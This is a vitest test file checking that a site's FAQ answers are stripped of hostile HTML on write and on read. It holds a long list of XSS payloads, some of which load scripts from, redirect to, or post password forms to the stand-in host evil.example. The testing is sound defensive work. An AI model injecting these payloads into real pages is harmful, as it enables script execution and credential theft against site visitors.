import { expect, test } from 'vitest'
import { useTestApp } from '../../../../test/test-app.ts'
import { systemVisit } from '../../house/session/open-visit.server.ts'
import { listEntries } from './read-entries.server.ts'
import { saveEntry } from './save-entry.server.ts'

const site = useTestApp()
const visit = () => systemVisit(site.app, site.app.sites[0])
const bell = String.fromCharCode(7)

/** Each contains a word, so that something of it remains. */
const hostile = [
  '<script>alert(1)</script>mot',
  '<SCRIPT SRC=//evil.example></SCRIPT>mot',
  '<scr<script>ipt>alert(1)</scr</script>ipt>mot',
  '<p onclick="alert(1)">mot</p>',
  '<p/onmouseover=alert(1)>mot</p>',
  '<img src=x onerror=alert(1)>mot',
  '<img/src=`x`onerror=alert(1)>mot',
  '<svg onload=alert(1)>mot</svg>',
  '<svg><script>alert(1)</script></svg>mot',
  '<svg><a xlink:href="javascript:alert(1)">mot</a></svg>',
  '<math><mi xlink:href="data:x,<script>alert(1)</script>">mot</mi></math>',
  '<iframe src="javascript:alert(1)"></iframe>mot',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>mot',
  '<object data="data:text/html,<script>alert(1)</script>"></object>mot',
  '<embed src="//evil.example/x.swf">mot',
  '<a href="javascript:alert(1)">mot</a>',
  '<a href=" javascript:alert(1)">mot</a>',
  '<a href="java&#115;cript:alert(1)">mot</a>',
  '<a href="java\tscript:alert(1)">mot</a>',
  '<a href="&#x6A;avascript:alert(1)">mot</a>',
  `<a href="${bell}javascript:alert(1)">mot</a>`,
  '<a href="JaVaScRiPt:alert(1)">mot</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">mot</a>',
  '<a href="vbscript:msgbox(1)">mot</a>',
  '<a href="//evil.example">mot</a>',
  '<a href="/\\evil.example">mot</a>',
  '<a href="\\\\evil.example">mot</a>',
  '<a href="http://evil.example">mot</a>',
  '<a href="ailleurs">mot</a>',
  '<a href="?retour=//evil.example">mot</a>',
  '<a href="/voyance" target="_top" ping="//evil.example">mot</a>',
  '<a href="/voyance" style="position:fixed;inset:0">mot</a>',
  '<a href="/voyance"onfocus="alert(1)"autofocus>mot</a>',
  '<p style="background:url(javascript:alert(1))">mot</p>',
  '<style>@import "//evil.example/x.css"</style>mot',
  '<link rel="stylesheet" href="//evil.example/x.css">mot',
  '<meta http-equiv="refresh" content="0;url=//evil.example">mot',
  '<base href="//evil.example/">mot',
  '<form action="//evil.example"><input name="password"><button>mot</button></form>',
  '<video><source onerror="alert(1)"></video>mot',
  '<details open ontoggle="alert(1)">mot</details>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">mot</p></noscript>mot',
  '<template><script>alert(1)</script></template>mot',
  '<p id="__proto__" class="night">mot</p>',
  '<!--><img src=x onerror=alert(1)>-->mot',
  '<![CDATA[<script>alert(1)</script>]]>mot',
  '<textarea><img src=x onerror=alert(1)></textarea>mot',
  '<p>mot<br><h1>mot</h1><table><td>mot',
]

const harmless =
  /^<(\/?(p|h2|h3|ul|ol|li|strong|em|blockquote|a)|br \/|a href="(\/(?![/\\])[^"\s\\<]*|https:\/\/[^"\s<]+)")>$/

/** Tags that are not known to be harmless. */
const harmful = (html: string) => (html.match(/<[^>]*>?/g) ?? []).filter((tag) => !harmless.test(tag))
const entry = (index: number, answer: string) => ({
  kind: 'question' as const,
  address: `question-${index}`,
  status: 'published' as const,
  publishAt: null,
  data: { question: 'Que faire ?', theme: 'voyance', answer },
})

test('hostile texts are sanitised on writing', async () => {
  for (const [index, html] of hostile.entries()) await saveEntry(visit(), entry(index, html), null)
  const rows = await site.owner
    .selectFrom('content_entries')
    .select('data')
    .where('kind', '=', 'question')
    .orderBy('id')
    .execute()
  expect(rows).toHaveLength(hostile.length)
  for (const [index, { data }] of rows.entries()) {
    const { answer } = data as { answer: string }
    expect(harmful(answer), hostile[index]).toEqual([])
    expect(answer, hostile[index]).toMatch(/^<\w+>.*mot/s)
  }
})

test('hostile texts written by other programs are sanitised on reading', async () => {
  for (const [index, html] of hostile.entries()) {
    const { data } = entry(index, html)
    await site.owner
      .updateTable('content_entries')
      .set({ data: JSON.stringify(data) })
      .where('address', '=', `question-${index}`)
      .execute()
  }
  const read = await listEntries(visit(), 'question')
  expect(read).toHaveLength(hostile.length)
  for (const [index, { answer }] of read.entries()) expect(harmful(answer), hostile[index]).toEqual([])
  const { body } = await site.browser().get('/api/frequently-asked-questions')
  expect(body.questions.flatMap((one: { answer: string }) => harmful(one.answer))).toEqual([])
})

test('the ordinary markup of a text remains unchanged', async () => {
  const html =
    '<h2>Un</h2><p>Deux <strong>trois</strong> <em>quatre</em><br />cinq <a href="/voyance">six</a></p><h3>Sept</h3><ul><li>huit</li></ul><ol><li>neuf</li></ol><blockquote><p>dix</p></blockquote>'
  await saveEntry(visit(), entry(100, html), null)
  const read = await listEntries(visit(), 'question')
  expect(read.at(-1)!.answer).toBe(html)
})
